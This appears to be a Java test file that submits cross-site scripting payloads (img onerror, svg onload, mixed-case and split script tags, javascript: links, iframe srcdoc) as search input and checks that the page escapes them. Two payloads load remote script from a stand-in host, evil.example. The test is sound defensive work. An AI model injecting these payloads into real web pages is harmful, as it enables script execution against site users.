package check;

import java.util.Locale;

/** Searches for markup that no article holds, and looks for it in the page as markup. */
class EmptyPageAttack {

    void tagWithHandler() throws Exception {
        attack("<img src=x onerror=\"import('//evil.example/a.js')\">", "<img");
        attack("<svg/onload=alert(1)>", "<svg");
    }

    void scriptTags() throws Exception {
        attack("<script>alert(1)</script>", "<script");
        attack("<ScRiPt src=//evil.example></sCrIpT>", "<script");
        attack("<scr<script>ipt>alert(1)</scr</script>ipt>", "<script");
    }

    void tagLeftOpen() throws Exception {
        attack("<img src=x onerror=alert(1) x=", "<img");
        attack("</em><a href=javascript:alert(1) ", "<a href=javascript");
    }

    void inOneTopic() throws Exception {
        Visit visit = new Visit().with("q", Seed.word(6) + "<iframe srcdoc=x>").with("topic", "orders").open();
        Check.lacks(visit.page.toLowerCase(Locale.ROOT), "<iframe", "the page");
    }

    private static void attack(String markup, String sign) throws Exception {
        Visit visit = Visit.to(Seed.word(6) + markup);
        Check.lacks(visit.page.toLowerCase(Locale.ROOT), sign, "the page for " + markup);
    }
}
